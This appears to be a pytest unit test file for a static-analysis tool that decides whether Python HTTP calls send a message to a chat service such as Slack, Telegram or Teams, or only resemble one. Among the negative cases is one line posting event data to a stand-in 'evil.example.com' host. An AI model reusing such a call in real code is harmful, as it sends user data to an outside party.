"""Requests that tell people in a chat, and those that only look like it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.programs import program

HEAD = """
import json
import os
import urllib3
import requests
from http.client import HTTPSConnection
from urllib.request import Request, urlopen
from slack_sdk import WebClient
from slack_sdk.webhook import WebhookClient
HOOK = os.environ["SLACK_WEBHOOK_URL"]
pool = urllib3.PoolManager()
def handler(event, context):
    note = {"text": event["message"], "channel": "#orders"}
    url = event["url"]
"""


def told(tmp_path: Path, lines: str) -> list[bool]:
    code = HEAD + "".join(f"    {line}\n" for line in lines.split("\n"))
    return [effect.forward for effect in program(tmp_path, code).facts.effects.items]


@pytest.mark.parametrize(
    "lines",
    [
        'requests.post("https://hooks.slack.com/services/T/B/x", json={"a": event["message"]})',
        'requests.post(f"https://api.telegram.org/bot{url}/sendMessage", data={"chat": 1})',
        'requests.post("https://acme.webhook.office.com/webhookb2/x", json=event)',
        "requests.post(HOOK, data=event['message'])",
        "requests.post(event['slack_hook'], json=event)",
        'pool.request("POST", os.environ["SLACK_URL"], body=json.dumps(event))',
        'requests.request("POST", HOOK, json=event)',
        "requests.post(url, json=note)",
        "requests.post(url, json.dumps(note))",
        'pool.request("POST", url, body=json.dumps(note).encode("utf-8"))',
        'HTTPSConnection("chat.example.com").request("POST", "/hook", json.dumps(note))',
        'data = json.dumps(note).encode()\nurlopen(Request(url, data=data, headers={"Accept": "*/*"}))',
        'data = bytes(json.dumps(note), encoding="utf-8")\nreq = Request(url, data=data, method="POST")\nurlopen(req)',
        "urlopen(url, json.dumps(note).encode())",
        "req = Request(HOOK, event['message'])\nurlopen(req)",
        'WebClient(token="t").chat_postMessage(channel="c", text="t")',
        'WebhookClient(url).send(text="t")',
        'requests.post(os.environ["TEAMS_WEBHOOK"], json=event)',
        'requests.post(url, json={"attachments": [note]})',
    ],
)
def test_a_message_in_a_chat_tells_people(lines: str, tmp_path: Path) -> None:
    assert told(tmp_path, lines) == [True]


@pytest.mark.parametrize(
    "lines",
    [
        'requests.post("https://shop.example.com/orders", json={"a": event["message"]})',
        'requests.post(url, json={"text": event["message"], "to": event["mail"]})',
        'requests.post(url, json={"channel": "#orders"})',
        'requests.post(url, json={"text": event["message"], **event})',
        "requests.post(event['orders_url'], json=event)",
        "requests.post(url + event['slack_user'], json=event)",
        'requests.post("https://shop.example.com/slack-hook", json=event)',
        'requests.post("https://evil.example.com/?https://x", json=event["text"])',
        'pool.request("POST", url, fields=note)',
        'requests.post(os.environ["TEAMS_URL"], json=event)',
        'requests.post(os.environ["CHAT_ENDPOINT"], json=event)',
    ],
)
def test_a_request_that_only_looks_like_it_tells_nobody(lines: str, tmp_path: Path) -> None:
    assert told(tmp_path, lines) == [False]
